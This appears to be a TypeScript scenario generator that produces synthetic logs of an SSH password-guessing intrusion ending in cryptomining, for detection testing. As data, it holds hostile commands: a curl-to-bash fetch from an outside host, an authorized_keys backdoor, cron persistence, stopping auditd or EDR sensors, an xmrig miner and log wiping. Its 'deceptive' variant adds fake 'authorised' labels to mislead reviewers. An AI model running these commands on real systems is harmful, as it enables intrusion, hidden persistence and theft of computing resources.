import { bluff } from "../decoys.ts";
import { connection, logLine, ran } from "../emit/wire.ts";
import { intrusion } from "../intrusion.ts";
import { serverWork } from "../ordinary.ts";
import type { Stage } from "../stage.ts";

type Shell = (step: string, minutes: number, words: readonly string[], as?: number) => void;

/** A Linux server's password is guessed, and its processor is put to work for somebody else. */
export const miner = intrusion({
  id: "guessed-and-mining",
  trade: "Linux SSH guessing to miner",
  says: "Passwords are guessed at a Linux server; somebody settles in, hides, and mines.",
  sources: ["linux auth log", "linux audit", "zeek conn"],
  steps: [
    ["guesses", "T1110.001", "passwords are guessed"],
    ["signs-in", "T1078.003", "one fits"],
    ["fetches", "T1105", "a program is fetched"],
    ["stays", "T1098.004", "a key is left behind"],
    ["scheduled", "T1053.003", "it starts again by itself"],
    ["blinds", "T1562.001", "protection is stopped"],
    ["mines", "T1496.001", "the processor is put to work"],
    ["hides", "T1070.002", "traces are removed"],
  ],
  attack(stage) {
    const host = stage.company.serverName("app", 0).toLowerCase();
    serverWork(stage, host, 60);
    const user = stage.by({ noisy: "root", quiet: "deploy", deceptive: "deploy" });
    const from = stage.outside();
    guess(stage, { host, user, from });
    const uid = user === "root" ? 0 : 1_001;
    const sh: Shell = (step, minutes, words, as = 0) =>
      stage.step(step, () => ran(stage, stage.at(minutes), { host, user, uid, as, words }));
    settle(stage, { sh, user, uid });
    if (stage.variant !== "quiet")
      sh("blinds", 55, ["systemctl", "stop", stage.by({ noisy: "auditd", quiet: "", deceptive: "falcon-sensor" })]);
    mine(stage, sh);
    return [host, user];
  },
  twin(stage) {
    const host = stage.company.serverName("app", 0).toLowerCase();
    serverWork(stage, host, 60);
    const own = `${stage.company.net}.20.22`;
    for (let at = 0; at < 3; at++)
      logLine(
        stage,
        stage.at(40 + at * 0.2),
        host,
        "sshd",
        `Failed password for deploy from ${own} port ${stage.chance.integer(40_000, 60_000)} ssh2`,
      );
    logLine(
      stage,
      stage.at(44),
      host,
      "sshd",
      `Accepted password for deploy from ${own} port ${stage.chance.integer(40_000, 60_000)} ssh2`,
    );
    const sh = (minutes: number, words: readonly string[], as = 1_001) =>
      ran(stage, stage.at(minutes), { host, user: "deploy", uid: 1_001, as, words });
    sh(47, ["wget", "-q", `https://packages.${stage.company.domain}/app-8.2.tar.gz`, "-O", "/srv/app/app-8.2.tar.gz"]);
    sh(50, ["tar", "-xzf", "/srv/app/app-8.2.tar.gz", "-C", "/srv/app"]);
    sh(53, ["systemctl", "enable", "--now", "app.service"], 0);
    sh(55, ["systemctl", "restart", "app.service"], 0);
    sh(58, ["/srv/app/bin/app", "--config", "/etc/app/app.yaml"]);
    for (let at = 0; at < 8; at++)
      connection(stage, stage.at(59 + at * 3), {
        from: `${stage.company.net}.1.90`,
        to: "192.0.2.61",
        port: 443,
        service: "ssl",
        seconds: 60,
      });
    sh(66, ["logrotate", "/etc/logrotate.d/app"], 0);
  },
});

function mine(stage: Stage, sh: Shell): void {
  sh(
    "mines",
    58,
    stage.by({
      noisy: [
        "/tmp/.x/xmrig",
        "-o",
        "stratum+tcp://pool.example.test:3333",
        "-u",
        "48edfHu7V9Z84YzzMa6fUueoELZ9ZRXq9VetWzYGzKt52XU5xvqgzYnDK9URnRoJMk1j8nLwEVsaSWJ4fhdUyZijBGUicoD",
        "--donate-level",
        "1",
      ],
      quiet: ["/opt/.cache/node", "--config", "/opt/.cache/c.json"],
      deceptive: ["/tmp/test-agent", "--algo", "rx/0", "--url", "pool.example.test:443", "--comment", "authorised"],
    }),
  );
  stage.step("mines", () => {
    for (let at = 0; at < stage.by({ noisy: 12, quiet: 5, deceptive: 8 }); at++)
      connection(stage, stage.at(59 + at * 3), {
        from: `${stage.company.net}.1.90`,
        to: stage.outside(1),
        port: stage.by({ noisy: 3_333, quiet: 443, deceptive: 443 }),
        seconds: 900,
        sent: 40_000,
        received: 60_000,
      });
  });
  sh(
    "hides",
    66,
    stage.by({
      noisy: ["sh", "-c", "rm -rf /var/log/auth.log; history -c"],
      quiet: ["truncate", "-s", "0", "/var/log/wtmp"],
      deceptive: ["sh", "-c", "unset HISTFILE; rm -f ~/.bash_history"],
    }),
  );
}

function settle(stage: Stage, { sh, user, uid }: { sh: Shell; user: string; uid: number }): void {
  sh(
    "fetches",
    47,
    stage.by({
      noisy: ["sh", "-c", `curl -s http://${stage.outside(1)}/x.sh | bash`],
      quiet: ["wget", "-q", `https://${stage.outsideName("pkg")}/node.tar.gz`, "-O", "/opt/.cache/n.tgz"],
      deceptive: ["sh", "-c", `curl -s http://${stage.outside(1)}/authorised-test.sh | sh # ${bluff(stage)}`],
    }),
    uid,
  );
  sh(
    "stays",
    50,
    [
      "sh",
      "-c",
      `echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5 ${stage.by({ noisy: "x@y", quiet: "deploy@ci", deceptive: "authorised@test" })}' >> ${user === "root" ? "/root" : "/home/deploy"}/.ssh/authorized_keys`,
    ],
    uid,
  );
  sh(
    "scheduled",
    53,
    stage.by({
      noisy: ["sh", "-c", "echo '* * * * * root /tmp/.x/kswapd0' >> /etc/crontab"],
      quiet: ["systemctl", "--user", "enable", "--now", "node-metrics.service"],
      deceptive: ["sh", "-c", "echo '@reboot root /tmp/test-agent' > /etc/cron.d/authorised-test"],
    }),
  );
}

function guess(stage: Stage, { host, user, from }: { host: string; user: string; from: string }): void {
  stage.step("guesses", () => {
    const count = stage.by({ noisy: 120, quiet: 14, deceptive: 50 });
    for (let at = 0; at < count; at++)
      logLine(
        stage,
        stage.at(at * stage.by({ noisy: 0.05, quiet: 3, deceptive: 0.3 })),
        host,
        "sshd",
        `Failed password for ${stage.by({ noisy: user, quiet: user, deceptive: at % 3 ? user : "invalid user authorised-test" })} from ${stage.by({ noisy: from, quiet: stage.outside(at % 7), deceptive: stage.outside(at % 2) })} port ${stage.chance.integer(40_000, 60_000)} ssh2`,
      );
  });
  stage.step("signs-in", () =>
    logLine(
      stage,
      stage.at(44),
      host,
      "sshd",
      `Accepted password for ${user} from ${from} port ${stage.chance.integer(40_000, 60_000)} ssh2`,
    ),
  );
}
